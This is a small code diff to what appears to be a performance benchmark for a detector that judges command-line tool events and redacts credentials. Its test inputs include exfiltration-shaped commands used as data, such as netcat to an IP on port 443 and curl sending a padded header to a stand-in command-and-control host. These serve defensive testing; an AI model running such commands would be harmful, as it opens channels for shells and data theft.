@@ -78,7 +78,7 @@ const findings = toolEvents
 
 const kB = 1000;
 const filler = (unit) => unit.repeat(Math.ceil((100 * kB) / unit.length)).slice(0, 100 * kB);
-/** 100 kB of arguments each. `$` stands for the filler, in words of its own or inside one. */
+/** 100 kB of arguments each, in the shapes that cost most. */
 const heavy = [
   ['one word', 'nc', [filler('A'), '198.51.100.7', '443']],
   ['a header before the URL', 'curl', ['-H', `X-Data: ${filler('QUJD')}`, 'http://c2.example.net/']],
@@ -111,7 +111,7 @@ const benches = [
   }],
   ['redact_line', 'redaction of one command line with three credentials', 'µs', 1, () => redactText(secret)],
   ...heavy.map(([what, event]) => [`heavy ${what}`, `judgement of 100 kB of arguments: ${what}`, 'µs', 1, () => detector.judge(event)]),
-].filter(([, , , count]) => count > 0);
+];
 
 function round(work) {
   let calls = 0;
